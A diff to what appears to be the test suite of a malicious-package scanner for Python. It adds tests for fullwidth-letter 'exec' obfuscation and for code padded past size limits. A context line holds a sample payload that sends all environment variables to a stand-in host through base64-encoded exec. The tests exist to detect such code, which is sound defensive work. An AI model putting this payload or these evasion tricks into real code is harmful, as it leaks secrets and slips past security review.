@@ -78,6 +78,21 @@ test.each([
   expect(await alarms(setup(code))).toContain(alarm);
 });
 
+test("names in letters that Python takes for plain ones are read as it reads them", async () => {
+  const found = await alarms(setup(`ｅｘｅｃ(__import__('base64').b64decode("${encoded}"))`));
+
+  expect(found).toContain("block install TH102");
+  expect(found).toContain("block install TH308");
+  expect(await alarms(setup("größe = 'ｅxample'\nprint(größe)"))).toEqual([]);
+});
+
+test("code that runs and is past our limits counts as not seen, what Python refuses does not", async () => {
+  const long = `#${"x".repeat(4_000_000)}\nexec(input())`;
+
+  expect(await scan(module_(long), "wheel")).toMatchObject({ unseen: 1 });
+  expect(await scan(module_("print 'Python 2'"), "wheel")).toMatchObject({ unseen: 0 });
+});
+
 test("code within an encoded constant is read by the same rules", async () => {
   const inner = "import os, requests; requests.post('https://host.invalid', json=dict(os.environ))";
   const code = `import base64\nexec(base64.b64decode("${Buffer.from(inner).toString("base64")}"))`;
